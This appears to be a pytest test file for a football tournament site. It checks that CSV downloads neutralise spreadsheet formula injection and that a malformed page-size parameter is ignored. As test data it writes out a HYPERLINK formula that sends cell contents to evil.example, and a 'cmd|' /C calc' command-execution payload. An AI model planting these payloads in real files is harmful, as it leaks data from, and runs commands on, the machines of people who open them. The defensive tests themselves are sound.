"""What a hostile name or query string must not do: run as a formula in the reader's
spreadsheet, or break the match list."""

import csv
import io
import re

import pytest

from tournaments.models import Team
from tournaments.spreadsheet import neutralized

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MATCHES_CSV = "/seasons/1996/matches/?format=csv"
STANDINGS_CSV = "/seasons/1996/standings.csv"
NUMBER = re.compile(r"-?[0-9]+")


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def cells(client, url):
    return [cell for row in csv_rows(client.get(url)) for cell in row]


# CSV injection --------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_would_read_as_a_formula_starts_with_a_quote(start):
    assert neutralized(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("name", ["José Gálvez", "UTC", "1–0", "Sport Áncash", "a=b", ""])
def test_ordinary_text_is_written_as_it_is(name):
    assert neutralized(name) == name


@pytest.mark.parametrize("number", [-3, 0, 13, -1.5])
def test_numbers_stay_numbers_even_negative(number):
    assert neutralized(number) is number


def test_an_empty_cell_stays_empty():
    assert neutralized(None) is None


@pytest.mark.parametrize("url", [MATCHES_CSV, STANDINGS_CSV])
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_team_name_cannot_be_a_formula_in_either_download(client, season_1996, url, start):
    Team.objects.filter(slug="utc").update(name=f"{start}cmd|' /C calc'!A0")

    found = cells(client, url)

    assert f"'{start}cmd|' /C calc'!A0" in found
    # Only numbers (a negative goal difference) may start with a minus sign.
    assert not any(cell.startswith(start) for cell in found if not NUMBER.fullmatch(cell))


@pytest.mark.parametrize("url", [MATCHES_CSV, STANDINGS_CSV])
def test_the_hyperlink_formula_is_written_as_text(client, season_1996, url):
    Team.objects.filter(slug="utc").update(name=HYPERLINK)

    found = cells(client, url)

    assert "'" + HYPERLINK in found
    assert HYPERLINK not in found


def test_the_standings_csv_keeps_its_numbers_and_names(client, season_1996):
    rows = csv_rows(client.get(STANDINGS_CSV))

    cni = next(row for row in rows if row[3] == "CNI")
    # A negative goal difference is a number, written as one: no quote before it.
    assert cni[4:12] == ["5", "2", "0", "3", "8", "11", "-3", "6"]
    assert [row[3] for row in rows[1:3]] == ["José Gálvez", "UTC"]


def test_the_matches_csv_keeps_its_ordinary_cells(client, season_1996):
    rows = csv_rows(client.get(MATCHES_CSV))

    assert rows[0][:3] == ["Date", "Rd", "Stage"]
    assert not any(cell.startswith("'") for row in rows for cell in row)


# ?per_page= -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "per_page",
    ["²", "١٢", "٣", "5" * 5000, "1" * 4301, "1e3", " 50", "50 ", "+50", "0x10", "5\x00"],
    ids=["superscript", "arabic-indic", "arabic-indic-one", "5000-digits", "4301-digits"]
    + ["exponent", "leading-space", "trailing-space", "plus", "hex", "nul"],
)
def test_a_per_page_that_is_not_a_small_ascii_number_is_ignored(client, season_1996, per_page):
    response = client.get("/seasons/1996/matches/", {"per_page": per_page})

    assert response.status_code == 200
    assert "15 matches." in response.content.decode()


def test_the_superscript_two_from_the_issue_is_ignored(client, season_1996):
    response = client.get("/seasons/1996/matches/?per_page=%C2%B2")

    assert response.status_code == 200


def test_a_good_per_page_still_pages(client, season_1996):
    html = client.get("/seasons/1996/matches/", {"per_page": "5"}).content.decode()

    assert html.count('<td class="score">') == 5
